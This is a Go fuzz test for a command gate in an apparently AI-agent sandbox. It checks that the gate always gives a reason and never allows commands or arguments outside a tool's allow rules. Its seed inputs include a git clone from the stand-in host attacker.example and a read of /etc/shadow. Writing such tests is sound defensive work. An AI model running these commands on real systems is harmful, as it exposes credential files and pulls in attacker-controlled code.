package cmdgate_test

import (
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/decision"
	"github.com/airlock-sandbox/airlock/policy"
)

// FuzzDecide checks the gate's invariants on arbitrary requests: it never
// panics, always gives a reason, and never allows a command that no allow
// entry of that tool names, nor arguments that match no signature.
func FuzzDecide(f *testing.F) {
	f.Add("run_tests", "pytest", "-v")
	f.Add("run_tests", "git", "clone\x00https://attacker.example/repo")
	f.Add("read_file", "cat", "/etc/shadow")
	f.Add("install_deps", "pip", "install\x00-r\x00requirements.txt")
	f.Add("run_tests", "./pytest", "")
	f.Add("", "", "")
	pol := policy.Default().Policy
	g := seedGate(f)
	f.Fuzz(func(t *testing.T, tool, command, joined string) {
		var args []string
		if joined != "" {
			args = strings.Split(joined, "\x00")
		}
		d := g.Decide(tool, command, args, ws)
		if d.Reason == "" || d.Gate != decision.GateCommand {
			t.Fatalf("decision without reason or gate: %+v", d)
		}
		if d.Verdict == decision.Escalate {
			t.Fatalf("the seed policy has no escalate rules, got %+v", d)
		}
		if !d.Allowed() {
			return
		}
		scope, ok := pol.ToolScopes[tool]
		if !ok {
			t.Fatalf("allowed a tool without a scope: %q", tool)
		}
		for _, r := range scope.Allow {
			if r.Command == command && r.Name == d.Rule && signatureMatches(r, args) {
				return
			}
		}
		t.Fatalf("allowed %q %q for %q by rule %q, which does not match", command, args, tool, d.Rule)
	})
}

// signatureMatches is the seed's TypeScript matchesArgs, transcribed as a
// reference implementation.
func signatureMatches(r policy.CommandPattern, args []string) bool {
	if len(r.ArgPatterns) == 0 {
		return r.AllowExtraArgs || len(args) == 0
	}
	for _, sig := range r.ArgPatterns {
		starts := len(args) >= len(sig)
		for i := 0; starts && i < len(sig); i++ {
			starts = args[i] == sig[i]
		}
		if starts && (r.AllowExtraArgs || len(args) == len(sig)) {
			return true
		}
	}
	return false
}
